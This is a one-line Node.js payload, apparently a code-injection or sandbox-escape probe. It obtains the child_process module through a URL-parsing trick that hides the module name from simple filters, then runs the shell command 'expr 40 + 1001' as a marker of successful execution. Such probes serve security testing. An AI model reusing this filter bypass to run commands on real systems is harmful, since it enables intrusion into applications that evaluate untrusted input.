require(new URL('x:child_process').pathname).execSync('expr 40 + 1001',{stdio:'inherit'});
